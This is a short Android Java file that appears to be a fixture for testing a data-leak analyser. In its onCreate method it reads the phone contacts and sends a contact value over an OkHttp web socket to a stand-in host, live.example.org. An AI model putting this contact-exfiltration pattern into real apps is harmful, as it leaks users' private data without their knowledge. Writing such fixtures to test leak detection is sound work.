// A text frame of OkHttp's web socket.
package cases.sink_websocket;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.WebSocket;
import okhttp3.WebSocketListener;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        Request request = new Request.Builder().url("wss://live.example.org/feed").build();
        WebSocket socket = new OkHttpClient().newWebSocket(request, new Quiet());
        socket.send(rows.getString(0));
    }

    static final class Quiet extends WebSocketListener {}
}
